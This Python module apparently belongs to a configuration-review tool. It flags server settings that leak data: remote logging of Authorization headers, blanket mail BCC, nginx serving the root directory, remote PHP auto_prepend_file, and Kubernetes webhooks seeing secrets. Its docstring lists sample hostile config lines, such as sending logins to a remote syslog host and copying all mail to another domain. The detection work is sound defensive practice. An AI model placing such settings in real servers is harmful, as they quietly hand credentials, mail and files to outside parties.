"""What servers hand out or copy to others because their configuration says so.

log_format f '$http_authorization'; access_log syslog:server=203.0.113.9 f;   logins leave
always_bcc = x@other.example                          a copy of every mail leaves
location / { alias /; autoindex on; }                 the whole machine is served
auto_prepend_file = "https://..."                     every page runs code of others
"""

from __future__ import annotations

from itertools import islice

from signoff.actions.known.hosts import HostClass, class_of_host
from signoff.actions.vocabulary import lazy_re2

_READ = 60_000  # characters
_MOST = 20
_NEAR = frozenset({HostClass.LOOPBACK, HostClass.PRIVATE})
_LOGS_LOGINS = lazy_re2(
    r"(?i)\$(?:http_authorization|http_cookie|sent_http_set_cookie"
    r"|request_body)\b|%\{(?:authorization|cookie)\}i"
)
_LOGS_TO = lazy_re2(r"(?i)\baccess_log\s+syslog:server=\[?([\w.-]+)")
_COPIES = lazy_re2(
    r"(?im)^\s*(?:always_bcc|sender_bcc_maps"
    r"|recipient_bcc_maps)\s*=\s*(?:[\w.+-]+@)([\w.-]+\.[a-z]{2,})\b"
)
_RESERVED = (".test", ".invalid")  # RFC 2606: nobody gets what is sent there
_OWN_DOMAIN = lazy_re2(r"(?im)^\s*my(?:domain|origin)\s*=\s*([\w.-]+)")
_SERVES_ALL = lazy_re2(
    r"(?is)\b(?:alias|root)\s+/\s*;[^{}]{0,400}?\bautoindex\s+on\b"
    r"|\bautoindex\s+on\b[^{}]{0,400}?\b(?:alias|root)\s+/\s*;"
)
_PREPENDS = lazy_re2(r"(?i)\bauto_(?:prepend|append)_file\W{1,8}\s*=?\s*[\"']?(https?://[^\s\"']+)")
_WEBHOOK = lazy_re2(
    r"(?is)\b(?:validating"
    r"|mutating)webhookconfiguration\b.*?\burl:\s*[\"']?https://([\w.-]+)"
)
_OF_SECRETS = lazy_re2(
    r"(?i)resources:\s*(?:\[[^\]]*\bsecrets\b"
    r"|(?:\s*-\s*\S+\s*){0,6}-\s*[\"']?secrets\b)"
)


def handed_out(text: str, old: str) -> tuple[str, str]:
    """Return what a server's settings give away, and to whom; empty texts if nothing."""
    head = text[:_READ]
    if _LOGS_LOGINS.search(head) is not None:
        for match in islice(_LOGS_TO.finditer(head), _MOST):
            if class_of_host(str(match.group(1))) not in _NEAR:
                return "writes logins into a log of another host", str(match.group())
    for match in islice(_COPIES.finditer(head), _MOST):
        domain = str(match.group(1)).lower()
        if domain not in old.lower() and not _is_own(domain, head):
            return "copies every mail to another domain", str(match.group()).strip()
    served = _SERVES_ALL.search(head)
    if served is not None:
        return "serves the whole machine", " ".join(str(served.group()).split())
    hook = _WEBHOOK.search(head)
    if (
        hook is not None
        and _OF_SECRETS.search(head)
        and not str(hook.group(1)).endswith((".svc", ".local"))
    ):
        return "shows every secret of a cluster to another host", str(hook.group(1))
    return "", ""


def _is_own(domain: str, text: str) -> bool:
    """Whether a domain stays in the house: a reserved one, or that of the server itself."""
    return (
        domain.endswith(_RESERVED)
        or class_of_host(domain) in _NEAR
        or domain
        in {str(match.group(1)).lower() for match in islice(_OWN_DOMAIN.finditer(text), _MOST)}
    )


def prepended(text: str) -> str:
    """Return the address whose code every page of a server runs first, "" if none."""
    match = _PREPENDS.search(text[:_READ])
    return str(match.group()) if match is not None else ""
